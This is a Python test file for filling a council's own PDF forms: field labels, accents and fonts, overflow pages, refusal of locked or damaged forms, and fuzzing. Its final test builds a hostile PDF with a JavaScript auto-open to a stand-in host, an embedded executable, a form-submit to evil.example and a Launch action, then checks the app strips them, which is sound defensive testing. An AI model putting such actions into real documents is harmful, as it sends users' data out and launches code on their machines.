"""A council's own PDF form: what its boxes are called, and that what is written shows in every viewer."""

from io import BytesIO
from typing import Any

import pikepdf
import pypdfium2
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pikepdf import Array, Dictionary, Name, String

from sencoapp import reference
from sencoapp.documents import DocumentRoom
from sencoapp.documents.intake.pdf import dangers
from sencoapp.domain.refusals import Fault
from sencoapp.services.documents_port import FilledForm
from tests.documents.own_forms.pdf_forms import bare_form, changed, drawn_form

ROOM = DocumentRoom()
LONG = "She reads with an adult every day, and is read to at home. " * 40


def fill(content: bytes, values: dict[str, Any], *, flat: bool = False) -> FilledForm:
    return ROOM.fill_own_form("form.pdf", content, values, labels={each: f"The label of {each}" for each in values}, flat=flat)


def values_of(content: bytes) -> dict[str, str]:
    """What stands in the fields that have no others within them."""
    with pikepdf.Pdf.open(BytesIO(content)) as pdf:
        found = {}
        for field in pdf.Root.AcroForm.Fields:
            for each in field.get("/Kids", [field]) if "/T" in field.get("/Kids", [Dictionary()])[0] else [field]:
                found[str(each.T)] = str(each.get("/V", ""))
        return found


def shown_text(content: bytes, page: int = 0) -> str:
    """The words that a page shows, boxes and all, without those that stand in the file as values alone."""
    flat = BytesIO()
    with pikepdf.Pdf.open(BytesIO(content)) as pdf:
        pdf.flatten_annotations("all")
        for each in pdf.pages:
            each.obj["/Annots"] = Array()
        pdf.save(flat)
    document = pypdfium2.PdfDocument(flat.getvalue())
    try:
        return str(document[page].get_textpage().get_text_range())
    finally:
        document.close()


def test_boxes_are_called_by_what_their_maker_or_the_page_says() -> None:
    read = ROOM.read_own_form("form.pdf", drawn_form())
    assert [(each.kind, each.label, each.section) for each in read.places] == [
        ("text", "Child's legal surname", "Page 1"),
        ("text", "Date of birth of the child", "Page 1"),
        ("choice", "Do the parents agree?", "Page 1"),
        ("tick", "Reports are attached", "Page 1"),
        ("choice", "Primary need", "Page 1"),
        ("text", "What has been tried so far, and what came of it?", "Page 1"),
        ("text", "UPN", "Page 2"),
    ]
    by_label = {each.label: each for each in read.places}
    assert by_label["Do the parents agree?"].options == ("Yes", "No")
    assert by_label["Primary need"].options == ("Autism", "SEMH")
    assert by_label["UPN"].most_characters == 13


def test_fields_within_fields_have_the_whole_name_and_fixed_ones_are_left_alone() -> None:
    read = ROOM.read_own_form("form.pdf", bare_form())
    assert [(each.key, each.kind) for each in read.places] == [
        ("Child.FirstName", "text"),
        ("Signature", "signature"),
        ("Child.Sideways", "text"),
    ]


@pytest.mark.parametrize("flat", [False, True])
def test_what_is_written_shows_with_its_accents_and_with_fonts_of_the_file_s_own(*, flat: bool) -> None:
    out = fill(drawn_form(), {"Text1": "Żółć Łukasz", "agree": "No", "Check Box2": True, "need": "SEMH", "upn": "B801200005001"}, flat=flat)
    words = shown_text(out.content)
    assert "Żółć Łukasz" in words
    assert "SEMH" in words
    assert "B" in shown_text(out.content, 1)
    assert not out.too_long
    assert not out.lacks_letters
    with pikepdf.Pdf.open(BytesIO(out.content)) as pdf:
        assert ("/AcroForm" in pdf.Root) is not flat
        if not flat:
            assert values_of(out.content) == {
                "Text1": "Żółć Łukasz",
                "dob": "",
                "agree": "/v1",
                "Check Box2": "/Yes",
                "need": "SEMH",
                "tried": "",
                "upn": "B801200005001",
            }
            fonts = [
                font for each in pdf.pages[0].Annots if str(each.get("/T", "")) == "Text1" for font in each.AP.N.Resources.Font.values()
            ]
            assert all("/FontFile2" in each.FontDescriptor for each in fonts if "/FontDescriptor" in each)
            assert any("/FontDescriptor" in each for each in fonts)


def test_without_looks_of_their_own_boxes_get_some_also_those_that_lie_on_their_side() -> None:
    out = fill(bare_form(), {"Child.FirstName": "Zoë", "Child.Sideways": "Ångström"})
    assert "Zoë" in shown_text(out.content)
    with pikepdf.Pdf.open(BytesIO(out.content)) as pdf:
        assert "/NeedAppearances" not in pdf.Root.AcroForm
        side = pdf.Root.AcroForm.Fields[0].Kids[1]
        assert [float(each) for each in side.AP.N.Matrix] == [0, 1, -1, 0, 20, 0]
        assert [float(each) for each in side.AP.N.BBox][2:] == [300, 20]


def test_an_answer_without_room_begins_in_its_box_and_stands_whole_at_the_end() -> None:
    def unlimited(pdf: Any) -> None:
        for each in pdf.Root.AcroForm.Fields:
            if "/MaxLen" in each:
                del each["/MaxLen"]

    content = changed(drawn_form(), unlimited)
    out = fill(content, {"tried": LONG})
    assert [each.place for each in out.too_long] == ["tried"]
    with pikepdf.Pdf.open(BytesIO(out.content)) as pdf:
        assert len(pdf.pages) == 3
        begun = str(next(each.V for each in pdf.Root.AcroForm.Fields if each.T == "tried"))
    assert begun.startswith("She reads with an adult")
    assert begun.endswith("… (continued on page 3)")
    more = " ".join(shown_text(out.content, 2).split())
    assert LONG.strip() in more
    assert "The label of tried" in more
    short = fill(content, {"tried": "Read to every day."})
    assert not short.too_long
    with pikepdf.Pdf.open(BytesIO(short.content)) as pdf:
        assert len(pdf.pages) == 2


def test_what_the_form_limits_is_kept_to_it_and_letters_without_a_shape_are_told() -> None:
    out = fill(drawn_form(), {"upn": "B80120000500199", "Text1": "北京"})
    assert [each.place for each in out.too_long] == ["upn"]
    assert values_of(out.content)["upn"] == "B801200005001"
    assert out.lacks_letters == ("Text1",)


_LATIN = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x17F, exclude_categories=("Cc", "Cf", "Zs")), min_size=1, max_size=30)


@settings(max_examples=25, deadline=None)
@given(_LATIN)
def test_any_words_of_our_letters_come_back_from_the_field(words: str) -> None:
    out = fill(drawn_form(), {"Text1": words})
    if not out.lacks_letters and not out.too_long:
        assert values_of(out.content)["Text1"] == words.strip()


def test_forms_that_cannot_be_filled_are_refused_with_a_sentence() -> None:
    def refused(content: bytes) -> str:
        with pytest.raises(Fault) as fault:
            ROOM.read_own_form("form.pdf", content)
        return fault.value.key

    def xfa(pdf: Any) -> None:
        pdf.Root.AcroForm["/XFA"] = Array([String("template"), pdf.make_stream(b"<template/>")])

    def signed(pdf: Any) -> None:
        pdf.Root.AcroForm.Fields[2]["/V"] = Dictionary(Type=Name.Sig)

    assert refused(changed(drawn_form(), xfa)) == "own_form_has_xfa"
    assert refused(changed(bare_form(), signed)) == "own_form_is_signed"
    assert refused(changed(drawn_form(), lambda pdf: None, encryption=pikepdf.Encryption(user="a", owner="b"))) == "own_form_is_locked"
    shut = pikepdf.Encryption(user="", owner="b", allow=pikepdf.Permissions(modify_form=False))
    assert refused(changed(drawn_form(), lambda pdf: None, encryption=shut)) == "own_form_is_locked"
    flat = fill(drawn_form(), {}, flat=True).content
    assert refused(flat) == "own_form_no_places"
    assert refused(drawn_form()[:900]) in ("evidence_damaged", "own_form_is_damaged")

    def round_and_round(pdf: Any) -> None:
        group = pdf.Root.AcroForm.Fields[0]
        group.Kids = Array([group, *group.Kids])

    places = ROOM.read_own_form("form.pdf", changed(bare_form(), round_and_round)).places
    assert "Signature" in {each.key for each in places}, "a field that is its own child is read once"


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_a_form_with_bytes_changed_is_read_or_refused_in_words(data: st.DataObject) -> None:
    content = bytearray(drawn_form() if data.draw(st.booleans()) else bare_form())
    for _ in range(data.draw(st.integers(1, 5))):
        at, long = data.draw(st.integers(0, len(content) - 1)), data.draw(st.integers(0, 120))
        content[at : at + long] = data.draw(st.binary(max_size=40))
    said = ""
    try:
        read = ROOM.read_own_form("form.pdf", bytes(content))
        values = {each.key: "words" for each in read.places if each.kind == "text"}
        ROOM.fill_own_form("form.pdf", bytes(content), values, labels={}, flat=True)
    except Fault as fault:
        said = reference.explain(fault)
    assert not said or said.endswith(".")


@pytest.mark.parametrize("flat", [False, True])
def test_nothing_in_a_filled_form_runs_sends_or_is_attached_and_a_link_stays(flat):
    def arm(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('http://evil.example')"))
        pdf.attachments["tool.exe"] = b"MZ"
        field = pdf.Root.AcroForm.Fields[0]
        field.AA = Dictionary(K=Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")))
        run = Dictionary(S=Name.Launch, F=String("tool.exe"))
        field.A = pdf.make_indirect(Dictionary(S=Name.URI, URI=String("https://www.gov.uk"), Next=Array([run])))

    armed = changed(drawn_form(), arm)
    assert set(dangers("form.pdf", armed)) == {"pdf_attachments", "pdf_scripts", "pdf_starts"}
    made = fill(armed, {ROOM.read_own_form("form.pdf", armed).places[0].key: ""}, flat=flat)
    assert dangers("form.pdf", made.content) == ()
    assert b"evil.example" not in made.content
    assert flat or b"https://www.gov.uk" in made.content
